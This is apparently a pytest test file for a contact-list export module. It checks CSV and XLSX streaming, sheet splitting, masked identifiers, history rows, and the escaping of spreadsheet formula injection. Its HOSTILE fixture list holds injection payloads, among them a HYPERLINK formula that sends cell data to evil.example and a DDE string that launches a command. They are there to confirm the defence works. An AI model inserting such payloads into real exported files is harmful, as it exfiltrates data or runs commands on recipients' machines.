"""Exports: the columns of the list page, formula neutralisation, streaming, and the
history that goes with them on request."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from typing import Any

import openpyxl
import pytest

from dnc.api.view.history import HistoryItem
from dnc.domain.entries import Entry, EntryKey, Source
from dnc.domain.spreadsheets import neutralise
from dnc.files import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
]


def entry(i: int, sender: str | None = "acme", channel: str | None = "SMS") -> Entry:
    return Entry(
        EntryKey("acme", f"4477009{i:05d}", channel, sender),
        Source.IMPORT,
        1795671087123 - i,
        {"kind": "import", "import_id": "imp-1"},
    )


async def batches(entries: list[Any], size: int = 3) -> AsyncIterator[list[Any]]:
    """A stand-in for ListView.stream: newest first, a chunk at a time."""
    for start in range(0, len(entries), size):
        yield entries[start : start + size]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["acme", "441234567890", "jane@example.com", "a=b", "", " x"])
def test_ordinary_values_are_untouched(value: str) -> None:
    assert neutralise(value) == value


def test_row_has_the_columns_of_the_page() -> None:
    assert exports.row_of(entry(1, sender=None, channel=None)) == (
        "447700900001",
        "All senders",
        "Import",
        "All channels",
        "acme",
        "2026-11-26T05:31:27.122Z",
        "Never",
    )


async def _csv(entries: list[Entry], *, bom: bool = True) -> bytes:
    return b"".join([chunk async for chunk in exports.csv_stream(batches(entries), bom=bom)])


async def test_csv_stream() -> None:
    hostile = [entry(i, sender=s) for i, s in enumerate(HOSTILE)]
    data = await _csv([entry(100), *hostile])
    assert data.startswith(
        b"\xef\xbb\xbfContact information,Sender,Source,Channel,Account,Added,Expires\r\n"
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1] == [
        "447700900100",
        "acme",
        "Import",
        "SMS",
        "acme",
        "2026-11-26T05:31:27.023Z",
        "Never",
    ]
    assert [r[1] for r in rows[2:]] == ["'" + s for s in HOSTILE]
    assert not (await _csv([], bom=False)).startswith(b"\xef\xbb\xbf")


async def test_csv_stream_yields_per_batch() -> None:
    chunks = [c async for c in exports.csv_stream(batches([entry(i) for i in range(7)], 3))]
    assert len(chunks) == 1 + 3  # header, then one chunk per batch


async def test_xlsx_file(tmp_path: object) -> None:
    hostile = [entry(i, sender=s) for i, s in enumerate(HOSTILE)]
    handle = await exports.xlsx_file(batches([entry(100, channel=None), *hostile]))
    data = b"".join([c async for c in exports.file_stream(handle)])
    assert handle.closed
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Entries"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == list(exports.HEADER)
    assert rows[1][3] == "All channels"
    for row, sender in zip(rows[2:], HOSTILE, strict=True):
        # (openpyxl reads xlsxwriter's escaped CR back as the literal "_x000D_")
        assert row[1] == "'" + sender.replace("\r", "_x000D_")
    # Every cell is a string; none became a formula.
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)


async def test_xlsx_starts_a_new_sheet_when_one_is_full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
    handle = await exports.xlsx_file(batches([entry(i) for i in range(7)], 2))
    data = b"".join([c async for c in exports.file_stream(handle)])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Entries", "Entries 2", "Entries 3"]
    counts = [book[name].max_row - 1 for name in book.sheetnames]
    assert counts == [3, 3, 1]


async def test_empty_xlsx_has_its_header() -> None:
    handle = await exports.xlsx_file(batches([]))
    data = b"".join([c async for c in exports.file_stream(handle)])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Entries"]
    assert [c.value for c in next(sheet.iter_rows())] == list(exports.HEADER)


def history_item(action: str, sender: str = "acme", **cause: object) -> HistoryItem:
    entry = {"account": "acme", "contact": TOKEN, "channel": None, "sender": sender}
    if action != "erase":
        entry |= {"source": "IMPORT", "added_at": "2026-11-26T05:31:27.123Z"}
    return HistoryItem("acme", TOKEN, None, sender, "0-1-0", 5, 0, 1, action, entry, cause)


TOKEN = "h1:AbCdEfGhIjKlMnOpQrStUv"


def test_expiry_and_masked_ids_in_rows() -> None:
    e = entry(1)
    temporary = Entry(e.key._replace(contact=TOKEN), e.source, e.added_at, None, 1795671087999)
    row = exports.row_of(temporary)
    assert row[0] == "h1:AbCdE…"
    assert row[-1] == "2026-11-26T05:31:27.999Z"
    assert exports.row_of(e)[-1] == "Never"


def test_history_rows_are_neutralised_and_name_their_cause() -> None:
    row = exports.history_row(history_item("add", HOSTILE[0], kind="journey", journey_id="=1+1"))
    assert dict(zip(exports.HISTORY_HEADER, row, strict=True)) == {
        "At": "1970-01-01T00:00:00.005Z",
        "Action": "Added",
        "Account": "acme",
        "Contact information": "h1:AbCdE…",
        "Channel": "All channels",
        "Sender": "'" + HOSTILE[0],
        "Source": "Import",
        "Added": "2026-11-26T05:31:27.123Z",
        "Expires": "Never",
        "Cause": "Journey",
        "Details": '{"journey_id":"=1+1"}',
    }
    erased = exports.history_row(history_item("erase", kind="erasure"))
    assert (erased[1], erased[6], erased[7], erased[10]) == ("Erased", "", "", "")


async def test_xlsx_with_a_history_sheet(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    items = [history_item("add"), history_item("remove"), history_item("erase")]
    handle = await exports.xlsx_file(
        batches([entry(i) for i in range(3)]), history=batches(items, 2)
    )
    data = b"".join([c async for c in exports.file_stream(handle)])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Entries", "Entries 2", "History", "History 2"]
    assert [c.value for c in next(book["History"].iter_rows())] == list(exports.HISTORY_HEADER)
    actions = [
        r[1] for name in ("History", "History 2") for r in book[name].iter_rows(2, values_only=True)
    ]
    assert actions == ["Added", "Removed", "Erased"]


async def test_csv_zip_with_history() -> None:
    handle = await exports.csv_zip_file(batches([entry(1)]), batches([history_item("add")]))
    data = b"".join([c async for c in exports.file_stream(handle)])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.namelist() == ["entries.csv", "history.csv"]
        entries = z.read("entries.csv")
        history = z.read("history.csv")
    assert entries.startswith(b"\xef\xbb\xbfContact information,")
    assert len(entries.splitlines()) == 2
    rows = list(csv.reader(io.StringIO(history.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(exports.HISTORY_HEADER)
    assert rows[1][1:4] == ["Added", "acme", "h1:AbCdE…"]
    # Nothing exported: both files still have their header.
    handle = await exports.csv_zip_file(batches([]), batches([]), bom=False)
    data = b"".join([c async for c in exports.file_stream(handle)])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert [len(z.read(n).splitlines()) for n in z.namelist()] == [1, 1]
